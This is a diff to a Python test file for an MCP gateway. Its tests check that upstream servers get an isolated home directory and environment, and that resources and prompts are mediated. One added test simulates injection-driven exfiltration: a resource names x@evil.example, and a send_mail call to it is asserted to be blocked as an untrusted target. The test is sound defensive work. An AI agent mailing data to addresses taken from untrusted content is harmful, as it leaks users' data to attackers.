@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
 import subprocess
 import sys
 from typing import Any
@@ -70,7 +71,10 @@ def test_issue_13_upstream_gets_only_the_policys_environment(setup: Setup) -> No
             await client.list_tools()
 
     asyncio.run(go())
-    env = set(setup.starts("mail")[0]["env"])
+    start = setup.starts("mail")[0]
+    assert start["home"] != os.environ.get("HOME")  # a fresh directory, not the gateway's
+    assert "maos-mcp-mail-" in start["home"]
+    env = set(start["env"])
     assert "MAOS_TEST_SECRET" not in env  # in the gateway's environment, never passed on
     named = {"RECORD", "PYTHONPATH", "DESCRIPTION_FILE"}
     assert env <= named | {"HOME", "PATH", "SHELL", "TERM", "USER", "LOGNAME", "LC_CTYPE"}
@@ -246,3 +250,29 @@ def test_issue_13_malformed_messages_get_an_error_and_the_gateway_goes_on(setup:
     assert len(errors) == 2, answers
     (ok,) = [a for a in answers if a.get("id") == 1]
     assert ok["result"]["serverInfo"]["name"] == "maos-mcp-gateway"
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_issue_13_resources_and_prompts_are_mediated_and_labelled(setup: Setup, mode: str) -> None:
+    async def go() -> tuple[Any, Any, Any]:
+        async with setup.client(mode) as client:
+            listed = [str(r.uri) for r in (await client.list_resources()).resources]
+            assert listed == ["report://q3"]
+            report = await client.read_resource("report://q3")
+            prompt = await client.get_prompt("summarise", {"topic": "Q3"})
+            exfil = await client.call_tool(
+                "send_mail", {"to": "x@evil.example", "subject": "q3", "body": "figures"}
+            )
+            return report, prompt, exfil
+
+    report, prompt, exfil = asyncio.run(go())
+    assert "x@evil.example" in report.contents[0].text
+    assert "Summarise Q3" in prompt.messages[0].content.text
+    assert [c["tool"] for c in setup.calls("files")] == ["resource", "prompt"]
+    committed = [r["op"] for r in kinds(setup, "intent.committed")]
+    assert committed == ["tool.files__read_resource", "tool.files__get_prompt"]
+    # What the resource carried is untrusted: the address it names cannot be mailed to.
+    assert exfil.meta["maos"]["code"] == "RULE.R10.UNTRUSTED_TARGET"
+    (item,) = view(setup).approvals.pending()
+    assert "tool:files__read_resource" in json.dumps(item.details["first_seen"])
+    assert setup.calls("mail", "send_mail") == []
